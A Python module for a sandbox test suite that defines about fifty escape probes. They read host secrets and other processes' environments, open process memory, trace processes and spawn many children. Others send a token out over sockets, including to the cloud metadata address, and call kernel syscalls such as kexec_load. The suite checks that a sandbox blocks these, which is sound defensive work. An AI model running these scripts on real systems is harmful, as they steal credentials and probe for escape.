"""Attacks from inside, as scripts. Exit status 0 means that the attack succeeded.

Each is shown to succeed against a bare process first, so that a passing test means something;
where that would harm this machine, or needs what it lacks, `bare` says why it is left out. The
variables are set by the test: see `World`.
"""

import errno
import platform
from dataclasses import dataclass

_REFUSALS = (errno.EPERM, errno.ENOSYS)


@dataclass(frozen=True, slots=True)
class Attack:
    """One row of the list; `number` is its case in the design's list of fifty."""

    number: int
    name: str
    script: str
    language: str = "bash"
    root: bool = False
    """Succeeds bare only for root; an ordinary user is stopped by the kernel anyway."""
    bare: str = ""
    """Why it is not tried bare; empty: it is, and must succeed."""

    @property
    def argv(self) -> list[str]:
        program = ["bash", "-c"] if self.language == "bash" else ["/usr/bin/python3", "-S", "-c"]
        return [*program, self.script]


def _connects(target: str, family: str = "AF_INET", kind: str = "SOCK_STREAM") -> str:
    return f"""
import os, socket
s = socket.socket(socket.{family}, socket.{kind})
s.settimeout(3)
s.connect({target})
s.sendall(os.environ['TOKEN'].encode())
"""


_FILES = (
    Attack(7, "a secret of the host is read", 'grep -q "$TOKEN" "$SECRET"'),
    Attack(7, "the home of the host's user is listed", 'ls "$HOST_HOME/.profile" "$HOST_HOME"'),
    Attack(10, "a file of the host is written", 'echo x > "$CANARY/written"'),
    Attack(10, "the system is writable", "[ -w /usr ] || [ -w /etc ] || [ -w / ]", root=True),
    Attack(14, "another sandbox's workspace is read", 'grep -q "$TOKEN" "$OTHER/secret"'),
    Attack(14, "the host's /tmp is read", 'grep -q "$TOKEN" "$SHARED"'),
    Attack(14, "the host's /dev/shm is read", 'grep -q "$TOKEN" "$SHM"'),
    Attack(
        11,
        "the kernel's settings open for writing",
        ": <> /proc/sys/kernel/core_pattern",
        root=True,
    ),
    Attack(
        11,
        "the kernel's trigger opens for writing",
        ": <> /proc/sysrq-trigger",
        bare="many machines have none",
    ),
    Attack(11, "control groups and devices are visible", "ls -d /sys/fs /sys/kernel"),
    Attack(
        11,
        "a disk of the host opens",
        "for d in /dev/[svn][dvb]*; do : < $d && exit 0; done; exit 1",
        bare="device groups may forbid it",
    ),
    Attack(20, "the kernel's memory or log opens", ": < /dev/kmsg", root=True),
    Attack(12, "new privileges can be gained", "grep -q '^NoNewPrivs:\t0' /proc/self/status"),
    Attack(12, "a capability is held", "! grep -q '^CapBnd:\t0*$' /proc/self/status"),
    Attack(
        12,
        "a set-user-id file counts",
        'awk \'$2 == "/" || $2 == "/workspace" || $2 == "/tmp"\' /proc/mounts | grep -vq nosuid',
    ),
    Attack(26, "a file of a terabyte is made", "truncate -s 1T sparse"),
    Attack(
        35, "core dumps can be switched on", "ulimit -c unlimited && [ $(ulimit -c) = unlimited ]"
    ),
)

_PROCESSES = (
    Attack(
        8, "a key in another process' environment is read", 'grep -aq "key-$TOKEN" /proc/*/environ'
    ),
    Attack(8, "process 1's environment opens", ": < /proc/1/environ", bare="it may be protected"),
    Attack(33, "a process of the host gets a signal", "kill -0 $HOST_PID"),
    Attack(33, "process 1's memory opens", ": <> /proc/1/mem", bare="it may be protected"),
    Attack(33, "a host process' memory opens for writing", ": <> /proc/$HOST_PID/mem"),
    Attack(
        33,
        "another process' memory is read",
        """
import ctypes, os, subprocess
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
child = subprocess.Popen(['sleep', '5'])
buffer = ctypes.create_string_buffer(8)
address = int(open(f'/proc/{child.pid}/maps').readline().split('-')[0], 16)
here, there = Part(ctypes.addressof(buffer), 8), Part(address, 8)
libc = ctypes.CDLL(None, use_errno=True)
done = libc.process_vm_readv(child.pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
child.kill()
raise SystemExit(0 if done == 8 else f'errno {ctypes.get_errno()}')
""",
        "python",
    ),
    Attack(
        33,
        "a process is traced",
        """
import ctypes, subprocess
child = subprocess.Popen(['sleep', '5'])
done = ctypes.CDLL(None).ptrace(16, child.pid, 0, 0)
child.kill()
raise SystemExit(0 if done == 0 else 'refused')
""",
        "python",
    ),
    Attack(
        23,
        "four hundred processes live at once",
        """
import subprocess
children = []
try:
    for _ in range(400):
        children.append(subprocess.Popen(['sleep', '20']))
finally:
    for child in children: child.kill()
""",
        "python",
    ),
    Attack(10, "a user namespace is made", "unshare -Ur true"),
    Attack(
        10, "something is mounted", "mkdir -p m && mount -t tmpfs none m && umount m", root=True
    ),
    Attack(10, "the root is changed", "chroot / /bin/true", root=True),
    Attack(10, "a device is made", "mknod device b 254 0 && rm device", root=True),
    Attack(34, "the kernel's log is read", "dmesg > /dev/null", root=True),
    Attack(
        32,
        "the clock is set",
        "import time; time.clock_settime(0, time.clock_gettime(0))",
        "python",
        bare="it would set this machine's clock",
    ),
)

_FAMILIES = (
    (40, 1, "VSOCK", False, "" if platform.machine() == "x86_64" else "may be missing"),
    (17, 3, "PACKET", True, ""),
    (38, 5, "ALG", False, "the module may be missing"),
    (31, 3, "BLUETOOTH", False, "the module may be missing"),
    (15, 3, "KEY", False, "the module may be missing"),
)


def _socket(number: int, kind: int, name: str, root: bool, bare: str) -> Attack:
    script = f"import socket; socket.socket({number}, {kind})"
    return Attack(20, f"a socket of family {name} is made", script, "python", root, bare)


_NETWORK = (
    Attack(
        15,
        "a TCP service of the network is reached",
        _connects("(os.environ['HOST_IP'], int(os.environ['WIDE']))"),
        "python",
    ),
    Attack(
        15,
        "a datagram leaves",
        _connects("(os.environ['HOST_IP'], 9)", kind="SOCK_DGRAM"),
        "python",
    ),
    Attack(
        15,
        "a name is asked of a server",
        _connects("('192.0.2.53', 53)", kind="SOCK_DGRAM"),
        "python",
        bare="needs a route to the world",
    ),
    Attack(
        16,
        "the cloud's metadata service is reached",
        _connects("('169.254.169.254', 80)"),
        "python",
        bare="there is none here",
    ),
    Attack(
        17,
        "a service on the host's loopback is reached",
        _connects("('127.0.0.1', int(os.environ['LOOPBACK']))"),
        "python",
    ),
    Attack(
        17,
        "a service on all addresses is reached by loopback",
        _connects("('127.0.0.1', int(os.environ['WIDE']))"),
        "python",
    ),
    Attack(
        17,
        "a service is reached over IPv6 loopback",
        _connects("('::1', int(os.environ['SIX']))", "AF_INET6"),
        "python",
    ),
    Attack(
        18,
        "a socket file of the host is reached",
        _connects("os.environ['SOCKET']", "AF_UNIX"),
        "python",
    ),
    Attack(
        18,
        "an abstract socket of the host is reached",
        _connects("'\\0' + os.environ['ABSTRACT']", "AF_UNIX"),
        "python",
    ),
    Attack(19, "the host's sockets and services are listed", '[ -n "$(ls -A /run)" ]'),
    Attack(15, "a network card is there", "[ $(grep -c : /proc/net/dev) -gt 1 ]"),
    *(_socket(*family) for family in _FAMILIES),
    Attack(
        20, "a raw socket is made", "import socket; socket.socket(2, 3, 1)", "python", root=True
    ),
)

_CALLS: dict[str, dict[str, int]] = {
    "x86_64": {
        "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "add_key": 248,
        "io_uring_setup": 425, "kexec_load": 246, "init_module": 175, "finit_module": 313,
        "delete_module": 176, "open_by_handle_at": 304, "name_to_handle_at": 303,
        "personality": 135, "ioctl": 16, "unshare": 272, "setns": 308, "mount": 165, "fsopen": 430,
        "open_tree": 428, "pivot_root": 155, "clone3": 435, "pidfd_getfd": 438, "kcmp": 312,
        "swapon": 167, "reboot": 169, "acct": 163, "quotactl": 179, "settimeofday": 164,
        "adjtimex": 159, "clock_adjtime": 305, "sethostname": 170, "iopl": 172, "ioperm": 173,
    },
    "aarch64": {
        "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "add_key": 217,
        "io_uring_setup": 425, "kexec_load": 104, "init_module": 105, "finit_module": 273,
        "delete_module": 106, "open_by_handle_at": 265, "name_to_handle_at": 264,
        "personality": 92, "ioctl": 29, "unshare": 97, "setns": 268, "mount": 40, "fsopen": 430,
        "open_tree": 428, "pivot_root": 41, "clone3": 435, "pidfd_getfd": 438, "kcmp": 272,
        "swapon": 224, "reboot": 142, "acct": 89, "quotactl": 60, "settimeofday": 170,
        "adjtimex": 171, "clock_adjtime": 266, "sethostname": 161,
    },
}  # fmt: skip
_HARMLESS = {
    "personality": (0x0040000,), "ioctl": (0, 0x5412), "unshare": (0x10000000,), "adjtimex": (0,),
    "clock_adjtime": (0, 0), "io_uring_setup": (1, 0), "kcmp": (-1, -1), "keyctl": (0, -3, 0),
}  # fmt: skip
_BARE_CALLS = {
    "personality", "ioctl", "unshare", "adjtimex", "clock_adjtime", "io_uring_setup", "kcmp",
    "keyctl", "setns", "pidfd_getfd", "clone3", "name_to_handle_at", "add_key",
}  # fmt: skip
"""Answered by the kernel with anything but a refusal for every user, and changing nothing."""


def _call(name: str, number: int) -> Attack:
    arguments = ", ".join(str(value) for value in _HARMLESS.get(name, (-1, -1, -1, -1, -1)))
    script = (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        f"done = libc.syscall({number}, {arguments})\nfailed = ctypes.get_errno()\n"
        f"raise SystemExit(failed if done < 0 and failed in {_REFUSALS} else 0)"
    )
    bare = "" if name in _BARE_CALLS else "refused to users, and dangerous for root"
    return Attack(34, f"the call {name} is answered", script, "python", bare=bare)


_KERNEL = tuple(_call(*pair) for pair in _CALLS.get(platform.machine(), {}).items())
ATTACKS = (*_FILES, *_PROCESSES, *_NETWORK, *_KERNEL)
